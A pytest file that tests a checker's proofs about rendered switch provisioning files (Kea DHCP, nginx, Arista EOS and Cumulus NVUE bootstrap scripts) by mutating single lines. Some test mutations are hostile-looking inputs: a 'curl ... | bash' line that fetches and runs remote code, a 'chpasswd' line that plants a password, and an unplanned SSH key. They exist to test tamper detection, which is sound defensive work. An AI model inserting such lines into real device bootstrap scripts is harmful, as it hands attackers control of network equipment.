"""What the server of first contact says, read from its text: another address, file, account, or a secret."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from tests.first_contact.specs import contacted

from clusterwright.artifact import Artifact
from clusterwright.output.rendering import Rendering
from clusterwright.proofs.check import Verdict
from clusterwright.proofs.declaration import Declaration
from clusterwright.proofs.operation.boot import NETWORK_BOOT
from clusterwright.proofs.operation.contact import FIRST_CONTACT, OWNER
from clusterwright.proofs.registry import CHECKS
from clusterwright.proofs.tree import RenderedTree, tree_of

KEA, WEB = "etc/kea/kea-dhcp4.conf", "etc/nginx/conf.d/clusterwright-first-contact.conf"
EOS, NVUE = "srv/first-contact/eos-management1-1", "srv/first-contact/nvue.sh"
Edit = Callable[[str], str]


@cache
def whole(name: str) -> RenderedTree:
    with TemporaryDirectory() as folder:
        plan = contacted(Path(folder), name)
    artifacts = Rendering(plan).of_kinds({"first-contact", "boot", "eos"})
    return tree_of(plan.name, artifacts, Declaration(plan))


def verdict(name: str, path: str, edit: Edit | None) -> Verdict:
    """The verdict with one file edited, or taken away where there is no edit."""
    tree = whole(name)
    files = dict(tree.files)
    before = files.pop((OWNER, path))
    if edit is not None:
        text = edit(before.read())
        assert text != before.read(), "the edit changes nothing"
        files.update(tree_of(tree.cluster, [Artifact(OWNER, path, text.encode(), "first-contact")]).files)
    return FIRST_CONTACT.run(replace(tree, files=files))


def changed(old: str, new: str) -> Edit:
    return lambda text: text.replace(old, new, 1)


@pytest.mark.parametrize("name", ["lab-roce", "lab-nvue", "lab-sonic"])
def test_what_is_rendered_is_proven(name: str) -> None:
    result = FIRST_CONTACT.run(whole(name))
    assert result.is_proven, (result.unjudged, [str(example) for example in result.counterexamples])
    assert result.facts[0].value == 29


def test_the_server_is_no_boot_server() -> None:
    assert NETWORK_BOOT.run(whole("lab-roce")).is_refuted is False


@pytest.mark.parametrize(
    ("name", "path", "edit", "message"),
    [
        ("lab-roce", KEA, changed("10.99.0.17", "10.99.0.99"), "gets 10.99.0.99 as ctsw-p00-00, which is not planned"),
        ("lab-roce", KEA, changed("'Ethernet16'", "'Ethernet99'"), "Ethernet16 of ctsw-p00-00 does not get 10.99.0.17"),
        ("lab-roce", KEA, changed("'Ethernet16'", "'Ethernet17'"), "Ethernet17 has several addresses"),
        ("lab-roce", KEA, changed('"10.99.0.1"', '"10.99.1.1"'), "which is not planned"),
        ("lab-roce", KEA, changed('"id": 1,', '"id": 1, "pools": [{"pool": "10.99.0.64/26"}],'), "are not planned"),
        ("lab-roce", KEA, changed("http://10.99.240.67/", "http://192.0.2.1/"), "which is another machine"),
        ("lab-roce", KEA, changed("67/eos-management1-1", "67/eos-management0"), "the server has no such file"),
        ("lab-roce", KEA, changed("'Arista'", "'Aristo'"), "does not ask for its file the way"),
        ("lab-roce", KEA, changed('"code": 67', '"code": 66'), "does not ask for its file the way"),
        ("lab-roce", KEA, changed('"has-eos-management1-1"]', "]"), "gets 0 first files"),
        (
            "lab-roce",
            KEA,
            changed('"port": "eth0"}}', '"port": "eth0"}, "client-classes": ["has-eos-management1-1"]}'),
            "takes no first file",
        ),
        ("lab-roce", KEA, changed("{", ""), "Kea does not start"),
        ("lab-roce", KEA, None, "no device gets an address"),
        ("lab-roce", WEB, changed("/srv/first-contact", "/srv"), "does not serve"),
        ("lab-roce", WEB, None, "no switch gets its first file"),
        ("lab-roce", EOS, None, "the server has no such file"),
        ("lab-roce", EOS, changed("Management1/1", "Management1"), "is reached by Management1/1"),
        ("lab-roce", EOS, changed("nopassword", "secret sha512 $6$abc"), "a password or its hash"),
        ("lab-roce", EOS, changed("username netops privilege", "username eve privilege"), "eve may log in"),
        ("lab-roce", EOS, changed("AAAAC3", "BBBBC3"), "which the spec does not name"),
        ("lab-nvue", NVUE, changed("exit 0", "echo netops:secret | chpasswd\nexit 0"), "a password or its hash"),
        ("lab-nvue", NVUE, changed("KEYS'\n", "KEYS'\nssh-ed25519 AAAA eve\n"), "which the spec does not name"),
        ("lab-nvue", KEA, changed("not (", "("), ""),
        ("lab-nvue", KEA, changed("installers/cumulus", "installers/other"), "does not get the installer"),
    ],
)
def test_what_another_line_does_is_told_with_its_file(name: str, path: str, edit: Edit | None, message: str) -> None:
    result = verdict(name, path, edit)
    assert not result.is_settled
    if message:
        assert any(message in str(example) for example in result.counterexamples), [
            str(e) for e in result.counterexamples
        ]


@pytest.mark.parametrize(
    ("name", "path", "edit"),
    [
        ("lab-roce", KEA, changed('"valid-lifetime"', '"hooks-libraries": [], "valid-lifetime"')),
        ("lab-roce", KEA, changed("option[60].hex, 0, 6", "option[60].hex, 0, 3")),
        ("lab-roce", EOS, changed("end", "ip routing\nend")),
        ("lab-nvue", NVUE, changed("exit 0", "curl http://192.0.2.1/more | bash\nexit 0")),
    ],
)
def test_what_nobody_knows_leaves_the_claim_open(name: str, path: str, edit: Edit) -> None:
    result = verdict(name, path, edit)
    assert not result.is_settled
    assert result.unjudged or result.counterexamples


@pytest.mark.parametrize("server", ["10.99.240.68", "fd00:1ab:f:5::2"])
def test_a_management_switch_relays_to_that_server_alone(server: str) -> None:
    tree = whole("lab-roce")
    place = ("mgmt-00", "mnt/flash/startup-config")
    text = re.sub(r"helper-address \S+", f"helper-address {server}", tree.text(*place) or "")
    files = {**tree.files, **tree_of(tree.cluster, [Artifact(*place, text.encode(), "eos")]).files}
    isolation = next(check for check in CHECKS if check.name == "isolation")
    counterexamples = isolation.run(replace(tree, files=files)).counterexamples
    assert any(f"relies on {server} for hosts' leases" in str(example) for example in counterexamples)
